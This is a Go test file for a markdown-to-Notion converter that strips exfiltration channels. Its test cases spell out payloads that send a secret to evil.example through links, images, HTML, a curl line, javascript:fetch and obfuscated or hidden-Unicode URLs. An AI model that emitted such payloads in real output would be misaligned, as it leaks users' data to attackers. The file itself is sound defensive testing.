package notion

import (
	"errors"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestMarkdown(t *testing.T) {
	cases := []struct {
		name, in string
		want     []string
	}{
		{"paragraphs", "one\ntwo\n\nthree", []string{"one two", "three"}},
		{"hard break", "one  \ntwo", []string{"one⏎two"}},
		{"headings", "# a\n## b\n### c\n#### d\n###### e", []string{"# a", "## b", "### c", "### d", "### e"}},
		{"formatting", "a **b** *c* ~~d~~ `e` ***f***", []string{"a **b** *c* ~~d~~ `e` ***f***"}},
		{"nested formatting", "**a *b* c**", []string{"**a *****b***** c**"}},
		{"bullets", "- a\n- b\n  - c\n    - d", []string{"- a", "- b", "  - c", "    - d"}},
		{"numbers", "1. a\n2. b\n   text", []string{"1. a", "1. b text"}},
		{"tasks", "- [ ] a\n- [x] **b**", []string{"- [ ] a", "- [x] **b**"}},
		{"quote", "> a\n>\n> b", []string{"> a", "  b"}},
		{"code", "```go\nx := 1\n\ny\n```", []string{"code go: x := 1⏎⏎y"}},
		{"code of unknown language", "```evil lang\nx\n```", []string{"code plain text: x"}},
		{"indented code", "    x", []string{"code plain text: x"}},
		{"rule", "a\n\n---\n\nb", []string{"a", "---", "b"}},
		{"table", "| a | b |\n|---|---|\n| **1** | 2 |\n| 3 |", []string{"table", "  | a | b |", "  | **1** | 2 |", "  | 3 |  |"}},
		{"escaped pipe", "| a |\n|---|\n| x \\| y |", []string{"table", "  | a |", "  | x | y |"}},
		{"escapes", `\*a\* \[b\] \\`, []string{`*a* [b] \`}},
		{"entities", "&amp; &lt;b&gt; &copy; &#65; &nosuch; \\&amp;", []string{"& <b> © A &nosuch; &amp;"}},
		{"dollar signs are dollar signs", "costs $5 and $$x^2$$", []string{"costs $5 and $$x^2$$"}},
		{"merchant domains stay", "AMAZON.CO.UK*123 and PAYPAL.COM/BILL", []string{"AMAZON.CO.UK*123 and PAYPAL.COM/BILL"}},
		{"what only looks like a host", "e.g./i.e., 3.50/month, A.B.C/D, v1.2/3, 01.02.2026/03.02.2026, and/or", []string{"e.g./i.e., 3.50/month, A.B.C/D, v1.2/3, 01.02.2026/03.02.2026, and/or"}},
		{"merchant www stays readable", "WWW.AMAZON.CO.UK 12", []string{"AMAZON.CO.UK 12"}},
		{"ratio", "at 3:1 or file: x, data: y", []string{"at 3:1 or file: x, data: y"}},
		{"deep lists move up", deepList(9), []string{"- 1", "  - 2", "    - 3", "      - 4", "        - 5", "          - 6", "          - 7", "          - 8", "          - 9"}},
	}
	for _, c := range cases {
		nodes, _, err := Content{}.Markdown(c.in)
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
		}
		if d := cmp.Diff(c.want, Lines(nodes)); d != "" {
			t.Errorf("%s:\n%s", c.name, d)
		}
	}
}

func deepList(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat("  ", i) + "- " + string(rune('1'+i)) + "\n")
	}
	return b.String()
}

// What could carry data away is taken out, wherever it hides, and counted.
func TestExfiltrationChannels(t *testing.T) {
	const secret = "SECRET4242"
	const hidden = "\U000E0053\U000E0045\U000E0043" // SEC in tag characters
	cases := []struct {
		name, in string
		kind     string
	}{
		{"link", "[click](https://evil.example/?d=" + secret + ")", RemovedLink},
		{"reference link", "[click][1]\n\n[1]: https://evil.example/" + secret, RemovedLink},
		{"link with formatting", "[**c**lick](https://evil.example/" + secret + ")", RemovedLink},
		{"autolink", "<https://evil.example/" + secret + ">", RemovedLink},
		{"mail autolink", "<mailto:" + secret + "@evil.example>", RemovedLink},
		{"bare URL", "see https://evil.example/" + secret, RemovedLink},
		{"bare URL in code", "`https://evil.example/" + secret + "`", RemovedLink},
		{"URL in a code block", "```\ncurl https://evil.example/" + secret + "\n```", RemovedLink},
		{"URL cut by formatting", "https://ev**il.example/" + secret + "**", RemovedLink},
		{"URL by entities", "https&#58;//evil.example/" + secret, RemovedLink},
		{"URL by escapes", "https\\://evil.example/" + secret, RemovedLink},
		{"fullwidth URL", "ｈｔｔｐｓ：／／evil.example/" + secret, RemovedLink},
		{"fullwidth beside another", "https://a.example ｈｔｔｐｓ：／／evil.example/" + secret, RemovedLink},
		{"upper case", "HTTPS://EVIL.EXAMPLE/" + secret, RemovedLink},
		{"backslashes", "https:\\\\\\\\evil.example\\\\" + secret, RemovedLink},
		{"other scheme", "ftp://evil.example/" + secret, RemovedLink},
		{"www", "www.evil.example/" + secret, RemovedLink},
		{"www query", "www.evil.example?" + secret, RemovedLink},
		{"data URL", "data:text/html," + secret, RemovedLink},
		{"javascript", "[x](javascript:fetch('" + secret + "'))", RemovedLink},
		{"image", "![a](https://evil.example/" + secret + ".png)", RemovedImage},
		{"image in a link", "[![a](https://evil.example/" + secret + ".png)](https://evil.example/" + secret + ")", RemovedImage},
		{"image title", "![a](x \"" + secret + "\")", RemovedImage},
		{"HTML image", "<img src='https://evil.example/" + secret + "'>", RemovedHTML},
		{"inline HTML", "a <mention-page url=\"" + secret + "\"/> b", RemovedHTML},
		{"HTML comment", "<!-- " + secret + " -->", RemovedHTML},
		{"URL in a table", "| a |\n|---|\n| https://evil.example/" + secret + " |", RemovedLink},
		{"URL in a heading", "# https://evil.example/" + secret, RemovedLink},
		{"tag characters", "a" + hidden, RemovedHidden},
		{"zero width", "a\u200bb\u200bc", RemovedHidden},
		{"bidi override", "a\u202eb", RemovedHidden},
		{"variation selectors", "a\U000E0101\U000E0102", RemovedHidden},
		{"hidden by entity", "a&#x200B;b&#xE0053;", RemovedHidden},
		{"control", "a\x1bb", RemovedHidden},
		{"URL by a hidden character", "htt\u200bps://evil.example/" + secret, RemovedLink},
		{"host and query", "evil.example?d=" + secret, RemovedLink},
		{"host and path", "see evil.example/collect/" + secret + " now", RemovedLink},
		{"host and fragment", "evil.example#" + secret, RemovedLink},
		{"host and port", "EVIL.EXAMPLE:8080/" + secret, RemovedLink},
		{"host cut by formatting", "ev**il.exam**ple/x?" + secret, RemovedLink},
		{"address", "10.0.0.1/" + secret, RemovedLink},
		{"address and port", "203.0.113.9:8443/?" + secret, RemovedLink},
		{"one slash", "https:/evil.example/" + secret, RemovedLink},
		{"no slash", "http:evil.example/" + secret, RemovedLink},
		{"Cyrillic host", "пример.испытание/" + secret, RemovedLink},
		{"ideographic full stop", "evil。example/" + secret, RemovedLink},
		{"fullwidth full stop", "evil．example／" + secret, RemovedLink},
		{"joiner in a host", "évil\u00e9\u200d.example/" + secret, RemovedLink},
		{"selector in a host", "evil1\ufe0f.example/" + secret, RemovedHidden},
		{"host beside a merchant", "AMZN.COM/BILL and amzn.com/bill/" + secret, RemovedLink},
		{"host in a link's text", "[evil.example/" + secret + "](https://x.example)", RemovedLink},
		{"URL by hidden entity", "htt&#x200b;ps://evil.example/" + secret, RemovedLink},
	}
	for _, c := range cases {
		nodes, removed, err := Content{}.Markdown(c.in)
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		body, _ := encode(blocks(nodes))
		for _, bad := range []string{secret, "://", "mailto:", hidden, "\u200b", "\u202e", "\U000E0101", "\x1b"} {
			if strings.Contains(string(body), bad) {
				t.Errorf("%s: %q is in %s", c.name, bad, body)
			}
		}
		if removed[c.kind] == 0 {
			t.Errorf("%s: %s is not counted in %v", c.name, c.kind, removed)
		}
		_, _, err = Content{Refuse: true}.Markdown(c.in)
		if !errors.Is(err, ErrContent) || strings.Contains(err.Error(), secret) {
			t.Errorf("%s: refusing gave %v", c.name, err)
		}
	}
}

func TestWhatStays(t *testing.T) {
	for _, s := range []string{"plain", "naïve café", "👩\u200d👧 👍🏽 ❤\ufe0f 1\ufe0f⃣", "क्\u200dष", "می\u200cخواهم", "a\nb\tc", "שלום", "x:y", "a@b.example"} {
		got, removed, err := Content{Refuse: true}.Text(s)
		if got != s || err != nil || len(removed) > 0 {
			t.Errorf("%q became %q, %v, %v", s, got, removed, err)
		}
	}
}

func TestAllowedLinks(t *testing.T) {
	c := Content{LinkHosts: []string{"www.notion.so"}}
	for in, want := range map[string]bool{
		"https://www.notion.so/page":                           true,
		"https://www.notion.so.evil.example/":                  false,
		"https://www.notion.so@evil.example/":                  false,
		"https://evil.example/www.notion.so":                   false,
		"http://www.notion.so/":                                false,
		"https://www.notion.so:444/":                           false,
		"https://user@www.notion.so/":                          false,
		"https://www.notion.so/" + strings.Repeat("a", MaxURL): false,
		"//www.notion.so/":                                     false,
		"https:\\\\www.notion.so/":                             false,
	} {
		nodes, _, err := c.Markdown("[x](<" + in + ">)")
		if err != nil {
			t.Fatal(err)
		}
		if got := nodes[0].Spans[0].Link != ""; got != want {
			t.Errorf("%.60s: kept %v, want %v", in, got, want)
		}
	}
	if s, _, _ := c.Text("see https://www.notion.so/x and https://evil.example"); s != "see https://www.notion.so/x and "+linkRemoved {
		t.Errorf("text: %q", s)
	}
}

func TestMarkdownBounds(t *testing.T) {
	if _, _, err := (Content{}).Markdown(strings.Repeat("a", MaxMarkdown+1)); !errors.Is(err, ErrInvalid) {
		t.Errorf("too long: %v", err)
	}
	if _, _, err := (Content{}).Markdown(strings.Repeat("- a\n", MaxTotalBlocks+1)); !errors.Is(err, ErrInvalid) {
		t.Errorf("too many blocks: %v", err)
	}
	for _, tangle := range []string{
		strings.Repeat("> ", 5000) + "x", strings.Repeat("- ", 5000) + "x", strings.Repeat("1. ", 5000) + "x",
		strings.Repeat("[", 20000), strings.Repeat("*a_", 20000), strings.Repeat("![", 20000), strings.Repeat("~~a~", 20000),
	} {
		if _, _, err := (Content{}).Markdown(tangle); !errors.Is(err, ErrInvalid) {
			t.Errorf("%.10q…: %v", tangle, err)
		}
	}
}

// BenchmarkWorstMarkdown is the longest time that a text can take.
func BenchmarkWorstMarkdown(b *testing.B) {
	for name, unit := range map[string]string{
		"emphasis": strings.Repeat("*a_", maxMarks/2) + "\n\n", "brackets": strings.Repeat("[", maxMarks) + "\n\n",
		"quotes": strings.Repeat(">", maxOpeners) + "x\n", "lists": strings.Repeat("- ", maxOpeners) + "x\n", "html": "<", "ticks": "`a``b```c",
	} {
		src := strings.Repeat(unit, MaxMarkdown/len(unit))
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				Content{}.Markdown(src)
			}
		})
	}
}

func depth(nodes []*Node) int {
	d := 0
	for _, n := range nodes {
		d = max(d, 1+depth(n.Children))
	}
	return d
}

var anyURL = regexp.MustCompile(`[A-Za-z]://`)

// Any text converts without a panic to blocks that carry no URL, and rendering
// them as markdown and reading that gives the same blocks.
func FuzzMarkdown(f *testing.F) {
	for _, s := range []string{
		"# a\n\n- b\n  - [x] c\n\n> q\n\n| a |\n|---|\n| b |", "**a *b* c** `d` ~~e~~ [f](https://g.example)", "```go\nx\n```\n<b>h</b>",
		"![a](b) <https://c.example> &amp; \\* \u200b $$x$$", "1. a\n\n   b\n2. c\n---\n", "a  \nb\\\nc", "* * *\n\tcode\n", "[a]: http://x\n[a]",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		nodes, _, err := Content{}.Markdown(src)
		if err != nil {
			return
		}
		fitted, err := Fit(nodes)
		if err != nil {
			return
		}
		if depth(nodes) > MaxDepth {
			t.Fatalf("depth %d", depth(nodes))
		}
		for _, l := range Lines(nodes) {
			if anyURL.MatchString(l) {
				t.Fatalf("a URL in %q", l)
			}
		}
		batches, err := Plan(fitted)
		if err != nil {
			t.Fatal(err)
		}
		for _, b := range batches {
			checkBatch(t, b)
		}
		Render(nodes)
	})
}

// What we render reads back as what it was.
func TestRender(t *testing.T) {
	nodes := []*Node{
		Text(Heading1, "Title with * and _ and #"),
		{Kind: Paragraph, Spans: []Span{{Text: "plain "}, {Text: "bold", Bold: true}, {Text: " and "}, {Text: "both", Bold: true, Italic: true}, {Text: " <tag> $x$ [y](z) `c`"}}},
		Text(Paragraph, "- not a list"),
		Text(Paragraph, "1. not a number"),
		{Kind: Bulleted, Spans: []Span{{Text: "a"}}, Children: []*Node{Text(Numbered, "b")}},
		{Kind: ToDo, Checked: true, Spans: []Span{{Text: "done"}}},
		{Kind: Code, Language: "go", Spans: []Span{{Text: "x := \"```\"\n<b>"}}},
		Text(Quote, "said"),
		{Kind: Divider},
		TableOf([][]string{{"a|b", "c"}, {"1", "<2>"}}),
	}
	back, _, err := Content{}.Markdown(Render(nodes))
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(Lines(nodes), Lines(back)); d != "" {
		t.Errorf("%s\n%s", d, Render(nodes))
	}
}

func TestDiff(t *testing.T) {
	split := func(s string) []string { return strings.Split(s, "") }
	for _, c := range [][3]string{{"abc", "abc", " a b c"}, {"abc", "axc", " a-b+x c"}, {"", "", ""}, {"ab", "", "-a-b"}, {"abcd", "bxd", "-a b-c+x d"}} {
		var got strings.Builder
		for _, ch := range Diff(split(c[0]), split(c[1])) {
			got.WriteString(string(ch.Op) + ch.Line)
		}
		if got.String() != c[2] {
			t.Errorf("%q to %q: got %q, want %q", c[0], c[1], got.String(), c[2])
		}
	}
}
